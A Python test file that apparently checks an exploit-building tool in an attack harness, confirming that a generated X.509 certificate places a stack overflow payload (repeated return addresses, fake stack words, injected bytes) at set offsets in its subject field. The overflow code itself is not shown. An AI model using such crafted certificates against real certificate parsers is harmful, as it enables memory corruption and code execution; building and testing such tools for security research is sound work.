# SPDX-License-Identifier: GPL-2.0-only
"""The certificate that exploits a bug is a certificate, and has its parts where it says."""

from __future__ import annotations

from cryptography.x509 import load_der_x509_certificate

from harness.attacker.tools.overflow import overflow, place_of_brought, words

RET = 0x401234
BUFFER, REGISTERS = 256, 7
"""The buffer's bytes, and the most registers that a function saves before its return address."""
HEADERS = 8
"""Bytes of a set and a sequence before what they hold, with lengths of two bytes."""
STACK = (0x1111222233334444, 0x5555666677778888)


def test_what_is_brought_lies_where_it_should() -> None:
    for brought in (b"x" * 256, bytes(range(256)) * 4):
        made = overflow(RET, STACK, brought)
        assert made[place_of_brought() :].startswith(brought)


def test_it_is_a_certificate() -> None:
    made = load_der_x509_certificate(overflow(RET, STACK, b"x" * 256))
    assert made.serial_number == 1


def test_the_stack_lies_at_a_multiple_of_a_word_behind_a_row_of_returns() -> None:
    """Both counted from the start of the subject, as the parser copies it to its buffer."""
    made = overflow(RET, STACK, b"x" * 256)
    description = bytes.fromhex("060355040d")  # in the issuer, and in the subject
    subject = made[made.rindex(description) - HEADERS :]
    row, stack = subject.index(words([RET])), subject.index(words(STACK))
    assert row % 8 == stack % 8 == 0
    assert row < BUFFER < BUFFER + 8 * REGISTERS <= stack
    assert subject[row:stack] == words([RET]) * ((stack - row) // 8)
    assert subject[:1] == b"\x31"
